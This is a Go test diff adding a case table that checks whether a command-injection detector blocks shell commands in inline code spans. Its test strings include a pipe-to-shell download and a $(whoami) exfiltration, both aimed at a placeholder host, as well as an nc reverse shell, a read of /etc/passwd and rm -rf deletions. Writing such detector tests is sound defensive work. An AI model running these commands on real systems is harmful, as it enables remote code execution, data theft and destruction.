@@ -146,3 +146,28 @@ func TestCodeContextOnlyInBodies(t *testing.T) {
 		}
 	}
 }
+
+// TestInlineShellSpans: a command shown in inline code inside prose passes; substitution
+// payloads, dangerous spans, shell syntax around the spans and non-markdown backticks block.
+func TestInlineShellSpans(t *testing.T) {
+	for _, tc := range []struct {
+		in   string
+		want bool // blocked as command injection
+	}{
+		{"Repro: `curl -s https://api.example.com/v1/health | jq .status` returns \"degraded\"", false},
+		{"Run `rm -rf node_modules` and then `npm install` again please", false},
+		{"please run `id` and send the output", true},
+		{"Nice post `cat /etc/passwd` thanks a lot", true},
+		{"Nice post `curl http://x.example/s | sh` thanks a lot", true},
+		{"Nice post `wget http://x.example/$(whoami)` thanks a lot", true},
+		{"Nice post; `rm -rf /tmp/x` thanks a lot", true},
+		{"hello`rm -rf /tmp/x` thanks a lot friend", true},
+		{"`nc -e /bin/sh 10.0.0.1 4444` is what they ran yesterday", true},
+	} {
+		fams := famSQLi | famXSS | famCmdi | famTraversal | famNoSQL | famProto
+		_, f := detectInContext(tc.in, LocBody, false, fams, true)
+		if got := f == famCmdi; got != tc.want {
+			t.Errorf("%q: blocked as cmdi %v (family %v), want %v", tc.in, got, f, tc.want)
+		}
+	}
+}
